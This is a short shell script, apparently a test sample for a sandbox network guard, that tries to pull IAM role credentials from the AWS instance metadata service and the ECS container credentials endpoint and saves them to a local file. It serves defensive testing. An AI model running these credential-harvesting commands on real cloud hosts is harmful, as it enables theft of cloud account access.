#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: asks the cloud instance metadata service for role credentials (T1552.005).
# Inert: link-local metadata addresses are refused by the network guard.
token=$(curl -s -m 3 -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 21600' http://169.254.169.254/latest/api/token)
role=$(curl -s -m 3 -H "X-aws-ec2-metadata-token: $token" http://169.254.169.254/latest/meta-data/iam/security-credentials/)
curl -s -m 3 "http://169.254.169.254/latest/meta-data/iam/security-credentials/$role" > ./creds.json
curl -s -m 3 "http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI" >> ./creds.json
wc -c < ./creds.json
exit 0
